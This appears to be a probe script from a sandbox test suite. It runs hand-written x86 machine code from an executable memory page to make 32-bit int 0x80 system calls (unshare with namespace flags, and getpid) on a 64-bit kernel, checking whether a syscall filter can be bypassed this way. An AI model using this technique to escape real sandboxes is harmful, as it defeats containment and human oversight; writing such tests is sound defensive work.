# Makes system calls by the 32-bit entry of an x86 kernel, whose numbers mean other calls: 310 is unshare.

import ctypes
import mmap
import os
import platform
import sys

from attack import done


def by_interrupt_80(number, argument):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, number; mov ebx, argument; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + argument.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


if platform.machine() == "x86_64":
    for number, argument in ((310, 0x10000000), (310, 0x40000000), (20, 0)):
        child = os.fork()
        if child == 0:
            result = by_interrupt_80(number, argument)
            if result >= 0:
                print(f"GOT THROUGH: 32-bit call {number}: {result}", flush=True)
            os._exit(0)
        print("the kernel's answer:", os.waitpid(child, 0)[1], file=sys.stderr)
done()
